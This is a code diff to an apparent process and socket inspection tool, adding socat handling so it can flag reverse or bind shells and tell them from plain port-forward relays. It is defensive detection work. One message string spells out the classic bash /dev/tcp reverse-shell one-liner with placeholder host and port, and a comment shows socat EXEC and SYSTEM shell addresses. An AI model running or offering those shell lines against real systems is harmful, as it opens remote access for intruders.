@@ -91,8 +91,11 @@ function shellSocketMessage(p: ProcessInfo, cl: CommandLine, knowledge: Knowledg
       const tail = cl.interactive ? "the classic reverse shell is bash -i >& /dev/tcp/HOST/PORT 0>&1" : "that is what a reverse or bind shell looks like";
       return `${who(p)} is ${what}${cl.applet ? ` (busybox ${cl.applet})` : ""} holding a network socket: ${tail}`;
     }
-    case "netcat":
-      return `${who(p)} is a netcat-like tool holding a network socket${cl.exec ? `, set to run ${cl.exec.text} for the other end (${cl.exec.flag})` : ""}: that is what a reverse or bind shell looks like`;
+    case "netcat": {
+      // socat names the program in an address: EXEC:/bin/sh,pty,stderr or SYSTEM:'bash -i'
+      const run = cl.exec ?? socatExec(p.cmdline ?? []);
+      return `${who(p)} is a netcat-like tool holding a network socket${run ? `, set to run ${run.text} for the other end (${run.flag})` : ""}: that is what a reverse or bind shell looks like`;
+    }
     case "server": {
       const run = cl.exec ? readCommandLine([cl.exec.text], null, null, knowledge) : null;
       if (cl.exec === undefined || run?.kind !== "shell") return null;
@@ -107,6 +110,30 @@ function shellSocketMessage(p: ProcessInfo, cl: CommandLine, knowledge: Knowledg
     default:
       return null; // a busybox applet that is no shell (httpd, udhcpc)
   }
+}
+
+// socat's addresses that connect it to a program or to its own input and output (socat(1) "ADDRESS TYPES"):
+// with one of these it is a shell's pipe (EXEC:/bin/sh) or a netcat (STDIO, -); with two network addresses, a relay.
+const SOCAT_LOCAL = /^(-|stdio|stdin|stdout|stderr|fd|pty|open|file|create|gopen|pipe|named|readline|exec|system|shell)(:|,|$)/i;
+
+/** The program a socat address runs (EXEC:/bin/sh,pty → /bin/sh, flag "EXEC:"), if any. */
+function socatExec(args: readonly string[]): { flag: string; text: string } | null {
+  for (const a of args.slice(1)) {
+    const m = /^(exec|system|shell):([^,]*)/i.exec(a);
+    if (m) return { flag: `${m[1]}:`, text: m[2] as string };
+  }
+  return null;
+}
+
+/** The two addresses of a socat that only relays between network ends (TCP-LISTEN:8080,fork TCP:host:80); else null. */
+function socatRelay(p: ProcessInfo): [string, string] | null {
+  const args = p.cmdline ?? [];
+  const b = (x: string | null | undefined) => (x ? x.slice(x.lastIndexOf("/") + 1) : "");
+  if (b(p.exe) !== "socat" && b(args[0]) !== "socat") return null;
+  // socat [options] ADDRESS ADDRESS: the addresses are the last two arguments
+  const [a, z] = args.slice(-2);
+  if (args.length < 3 || a === undefined || z === undefined || /^-./.test(a) || /^-./.test(z) || SOCAT_LOCAL.test(a) || SOCAT_LOCAL.test(z)) return null;
+  return [a, z];
 }
 
 /** Process-level findings: they go on every socket of the process. */
@@ -161,6 +188,8 @@ export const PROCESS_RULES: readonly Rule[] = [
       if (p === null) return null;
       const cl = commandLineOf(p, ctx.knowledge);
       if (cl === null) return null;
+      const relay = cl.kind === "netcat" ? socatRelay(p) : null;
+      if (relay !== null) return reason("relay", "unknown", `${who(p)} relays between ${relay[0]} and ${relay[1]}, a port forward with no program behind it: it carries whatever either end sends, so check who reaches it and where it leads`);
       const message = shellSocketMessage(p, cl, ctx.knowledge);
       return message === null ? null : reason("shell-socket", "suspicious", message);
     },
